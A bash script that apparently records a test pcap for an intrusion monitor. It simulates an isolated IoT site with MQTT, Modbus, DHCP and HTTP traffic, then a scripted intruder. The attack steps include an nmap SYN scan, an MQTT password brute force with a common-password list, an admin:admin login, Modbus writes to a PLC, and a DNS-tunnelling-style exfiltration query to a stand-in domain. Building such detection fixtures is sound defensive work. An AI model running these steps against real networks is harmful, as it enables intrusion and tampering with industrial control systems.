#!/usr/bin/env bash
# Records iot-site.pcap beside this script: a small IoT site on one Ethernet segment, as a SPAN port of its switch
# sees it, with real peers only. A bridge in its own network namespace (st-lan) joins eleven hosts, each in a
# namespace of its own with its own MAC (OUIs of real makers where the inventory's vendor column should show one);
# tcpdump records on the bridge. Addresses from 192.0.2.0/24 (TEST-NET-1), no route out; every namespace is named st-*
# and deleted by name at the end. Needs root, iproute2, tcpdump, mosquitto + mosquitto-clients, dnsmasq, udhcpc,
# bind9-dnsutils (dig), curl, openssl, node + npm, mbpoll, nmap (the packages tests/setup-deps.sh installs).
#
#   0-30 s   normal traffic (the learning period the test gives): two sensors publish anonymously every second
#            (192.0.2.21, .22; client ids sensor-01, sensor-02), a third with a password on the broker's second
#            listener (192.0.2.23, user dev3, port 1884); an HMI (192.0.2.60) polls ten holding registers of a PLC
#            (192.0.2.50, modbus-serial's ServerTCP on 502) every 500 ms on one connection; a camera (MAC
#            00:12:12:00:00:99) takes a DHCP lease (host name ipcam-01, vendor class ACME-IPCam) from dnsmasq
#            (192.0.2.53), resolves web.site.example, logs in to the web server (192.0.2.80, HTTP Basic alice) and
#            opens TLS 1.3 to it (openssl s_server, port 8443), every 4 s.
#   ~33 s-   an intruder (192.0.2.66): nmap -sS of 603 ports of the broker and the PLC; mosquitto_sub '#' on 1883;
#            ten wrong passwords for dev3 on 1884; HTTP Basic admin:admin to /admin/config; a Modbus register write
#            and a coil write. Then a new device (MAC 02:00:00:00:00:77) takes a lease (host name plug-7, vendor class
#            Shelly), resolves broker.site.example and a tunnelling-like TXT name, and publishes anonymously; sensor-01
#            fetches a page from the web server (a new peer).
# Usage: sudo bash record.sh [OUT.pcap]   (default: iot-site.pcap beside this script; about 45 s)
set -euo pipefail
HERE=$(cd "$(dirname "$0")" && pwd)
REPO=$(cd "$HERE/../../../.." && pwd)
OUT=${1:-$HERE/iot-site.pcap}
NS="st-lan st-broker st-dev1 st-dev2 st-dev3 st-dns st-cam st-web st-plc st-hmi st-atk st-new"
WORK=$(mktemp -d)
chmod 755 "$WORK"
PIDS=""
cleanup() {
  for p in $PIDS; do kill $p 2>/dev/null || true; done
  sleep 0.3
  for n in $NS; do ip netns pids "$n" 2>/dev/null | xargs -r kill 2>/dev/null || true; ip netns del "$n" 2>/dev/null || true; done
  rm -rf "$WORK"
}
trap cleanup EXIT
for n in $NS; do ip netns del "$n" 2>/dev/null || true; done
for n in $NS; do ip netns add "$n"; ip -n "$n" link set lo up; done
ip -n st-lan link add br0 type bridge
ip -n st-lan link set br0 up
port() { # port NS MAC [IP]
  ip -n st-lan link add "p-$1" type veth peer name eth0 netns "$1"
  ip -n st-lan link set "p-$1" master br0 up
  ip -n "$1" link set eth0 address "$2" up
  [ -n "${3:-}" ] && ip -n "$1" addr add "$3/24" dev eth0
  return 0
}
port st-broker b8:27:eb:00:00:10 192.0.2.10      # Raspberry Pi Foundation
port st-dev1   24:0a:c4:00:00:21 192.0.2.21      # Espressif
port st-dev2   24:0a:c4:00:00:22 192.0.2.22
port st-dev3   24:0a:c4:00:00:23 192.0.2.23
port st-dns    02:00:00:00:00:53 192.0.2.53
port st-cam    00:12:12:00:00:99                 # DHCP client
port st-web    02:00:00:00:00:80 192.0.2.80
port st-plc    00:80:f4:00:00:50 192.0.2.50      # Telemecanique
port st-hmi    02:00:00:00:00:60 192.0.2.60
port st-atk    02:00:00:00:00:66 192.0.2.66
port st-new    02:00:00:00:00:77                 # a new device, DHCP, late
sleep 1.5


# services
cat > "$WORK/mosq.conf" <<C
per_listener_settings true
user root
listener 1883 0.0.0.0
allow_anonymous true
listener 1884 0.0.0.0
allow_anonymous false
password_file $WORK/passwd
C
mosquitto_passwd -b -c "$WORK/passwd" dev3 pw-dev3-ok >/dev/null 2>&1
chmod 0644 "$WORK/passwd"
ip netns exec st-broker mosquitto -c "$WORK/mosq.conf" >/dev/null 2>&1 & PIDS="$PIDS $!"
ip netns exec st-dns dnsmasq --no-daemon --no-resolv --no-hosts --user=root --interface=eth0 --bind-interfaces \
  --dhcp-range=192.0.2.100,192.0.2.120,12h --dhcp-leasefile="$WORK/leases" --domain=site.example \
  --address=/broker.site.example/192.0.2.10 --address=/web.site.example/192.0.2.80 --address=/plc.site.example/192.0.2.50 \
  >/dev/null 2>&1 & PIDS="$PIDS $!"
ip netns exec st-web node $REPO/tests/SecMon.Capture.Tests/Protocols/Http/Samples/server.js 192.0.2.80 80 >/dev/null 2>&1 & PIDS="$PIDS $!"
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$WORK/k.pem" -out "$WORK/c.pem" -days 30 -subj /CN=web.site.example >/dev/null 2>&1
ip netns exec st-web openssl s_server -accept 8443 -cert "$WORK/c.pem" -key "$WORK/k.pem" -www -quiet >/dev/null 2>&1 & PIDS="$PIDS $!"
cp $REPO/tests/SecMon.Capture.Tests/Protocols/Modbus/Samples/peer/* "$WORK/"
(cd "$WORK" && npm ci --silent --no-audit --no-fund --ignore-scripts >/dev/null 2>&1)
ip netns exec st-plc node "$WORK/server.cjs" 192.0.2.50 502 >/dev/null 2>&1 & PIDS="$PIDS $!"
sleep 1.5

# the recording starts with the normal traffic (the services are up and quiet)
ip netns exec st-lan tcpdump -i br0 -s 0 -U -w "$OUT" 2>"$WORK/tcpdump.err" & PIDS="$PIDS $!"
for _ in $(seq 100); do grep -q listening "$WORK/tcpdump.err" && break; sleep 0.1; done
cat > "$WORK/dhcp.sh" <<'C'
#!/bin/sh
[ "$1" = bound ] && ip addr add "$ip/24" dev "$interface"
exit 0
C
chmod +x "$WORK/dhcp.sh"
T0=$(date +%s)
# normal traffic for 30 s (the learning period)
for d in 1 2; do
  ip netns exec st-dev$d sh -c "for i in \$(seq 30); do mosquitto_pub -h 192.0.2.10 -p 1883 -i sensor-0$d -t site/dev$d/temp -m \"\$i\" -q 1; sleep 1; done" >/dev/null 2>&1 & PIDS="$PIDS $!"
done
ip netns exec st-dev3 sh -c "for i in \$(seq 6); do mosquitto_pub -h 192.0.2.10 -p 1884 -i sensor-03 -u dev3 -P pw-dev3-ok -t site/dev3/hum -m \"\$i\" -q 0; sleep 5; done" >/dev/null 2>&1 & PIDS="$PIDS $!"
ip netns exec st-hmi timeout 30 mbpoll -m tcp -a 1 -r 1 -c 10 -t 4 -l 500 192.0.2.50 >/dev/null 2>&1 & PIDS="$PIDS $!"
ip netns exec st-cam udhcpc -i eth0 -n -q -x hostname:ipcam-01 -V ACME-IPCam -s "$WORK/dhcp.sh" >/dev/null 2>&1 || true
ip netns exec st-cam sh -c 'for i in $(seq 7); do dig +short +time=1 +tries=1 @192.0.2.53 web.site.example >/dev/null; curl -s -m 2 -u alice:S3cret-pass http://192.0.2.80/private >/dev/null; curl -s -m 2 http://192.0.2.80/status >/dev/null; echo | openssl s_client -connect 192.0.2.80:8443 -servername web.site.example >/dev/null 2>&1; sleep 4; done' >/dev/null 2>&1 & PIDS="$PIDS $!"
sleep 33
# after learning: an intruder and a new device
ip netns exec st-atk nmap -n -sS -p 1-600,1883,1884,8443 --max-retries 0 192.0.2.10 192.0.2.50 >/dev/null 2>&1 || true
ip netns exec st-atk timeout 5 mosquitto_sub -h 192.0.2.10 -p 1883 -t '#' -v >/dev/null 2>&1 || true
for pw in 123456 password admin dev3 letmein qwerty secret iot 000000 1234; do
  ip netns exec st-atk mosquitto_pub -h 192.0.2.10 -p 1884 -u dev3 -P $pw -t x -m y >/dev/null 2>&1 || true
done
ip netns exec st-atk curl -s -m 2 -u admin:admin http://192.0.2.80/admin/config >/dev/null || true
ip netns exec st-atk mbpoll -m tcp -a 1 -r 5 -t 4 -1 192.0.2.50 1234 >/dev/null 2>&1 || true
ip netns exec st-atk mbpoll -m tcp -a 1 -r 1 -t 0 -1 192.0.2.50 1 >/dev/null 2>&1 || true
ip netns exec st-new udhcpc -i eth0 -n -q -x hostname:plug-7 -V Shelly -s "$WORK/dhcp.sh" >/dev/null 2>&1 || true
ip netns exec st-new sh -c 'dig +short +time=1 +tries=1 @192.0.2.53 broker.site.example; dig +short +time=1 +tries=1 @192.0.2.53 aGVsbG8gd29ybGQgdGhpcyBpcyBleGZpbA.x7f3a9b2c1d.tunnel.example TXT; mosquitto_pub -h 192.0.2.10 -p 1883 -i plug-7 -t shellies/plug-7/relay/0 -m on' >/dev/null 2>&1 || true
ip netns exec st-dev1 curl -s -m 2 http://192.0.2.80/status >/dev/null || true
sleep 2
